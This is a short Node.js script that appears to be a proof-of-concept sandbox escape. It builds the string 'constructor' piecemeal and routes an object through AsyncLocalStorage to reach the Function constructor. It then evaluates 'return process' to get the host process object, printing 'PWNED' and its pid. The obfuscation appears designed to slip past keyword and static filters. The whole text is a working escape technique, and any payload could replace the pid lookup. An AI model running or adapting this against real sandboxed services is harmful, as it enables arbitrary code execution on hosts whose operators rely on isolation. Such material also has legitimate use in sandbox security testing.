'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const s = new (require('async_hooks').AsyncLocalStorage)();
s.run(t, () => { const x = s.getStore(); const o = Date.now() > 1 ? x : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
